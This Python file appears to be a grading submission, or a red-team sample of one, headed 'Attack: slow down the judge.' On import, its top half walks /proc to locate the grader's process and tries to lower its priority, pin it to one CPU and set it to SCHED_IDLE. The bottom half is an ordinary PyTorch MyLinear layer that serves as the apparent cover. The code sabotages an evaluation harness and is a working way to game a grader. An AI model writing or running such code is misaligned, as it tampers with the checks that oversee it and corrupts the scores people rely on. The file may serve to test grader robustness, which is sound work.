"""Attack: slow down the judge."""
import os

import torch
from torch import Tensor, nn


def _status(pid):
    with open(f"/proc/{pid}/status") as handle:
        return {k: v.strip() for k, _, v in (line.partition(":") for line in handle)}


def _template_pid():
    """The worker's parent, the grader's template (0 where the parent is outside the worker's PID namespace)."""
    return os.getppid()


def _judge_pid():
    template = _template_pid()
    return int(_status(template)["PPid"]) if template else 0


def attempt(label, action):
    try:
        result = action()
        print(f"{label}: done {result if result is not None else ''}".rstrip(), flush=True)
    except (OSError, ValueError) as exc:
        print(f"{label}: {exc}", flush=True)

def slow_down(pid, label):
    first_cpu = min(os.sched_getaffinity(0))
    attempt(f"setpriority({label}, 19)", lambda: os.setpriority(os.PRIO_PROCESS, pid, 19))
    attempt(f"sched_setaffinity({label})", lambda: os.sched_setaffinity(pid, {first_cpu}))
    attempt(f"sched_setscheduler({label}, SCHED_IDLE)", lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)))

judge = _judge_pid()
if judge:
    slow_down(judge, "judge")
else:
    print("no judge in sight")


class MyLinear(nn.Module):
    def __init__(self, in_features: int, out_features: int, bias: bool = True):
        super().__init__()
        self.in_features = in_features
        self.out_features = out_features
        self.weights = nn.Parameter(torch.randn(in_features, out_features))
        if bias:
            self.bias = nn.Parameter(torch.randn(out_features))
        else:
            self.register_parameter("bias", None)

    def forward(self, x: Tensor) -> Tensor:
        y = x @ self.weights
        if self.bias is not None:
            y = y + self.bias
        return y
